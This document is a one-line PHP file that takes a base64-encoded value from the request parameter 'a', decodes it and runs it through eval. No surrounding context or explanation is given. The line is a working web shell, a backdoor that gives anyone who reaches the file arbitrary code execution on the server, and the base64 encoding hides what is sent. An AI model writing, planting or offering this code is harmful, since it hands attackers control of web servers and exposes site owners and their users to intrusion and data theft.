<?php eval(base64_decode($_REQUEST["a"]));
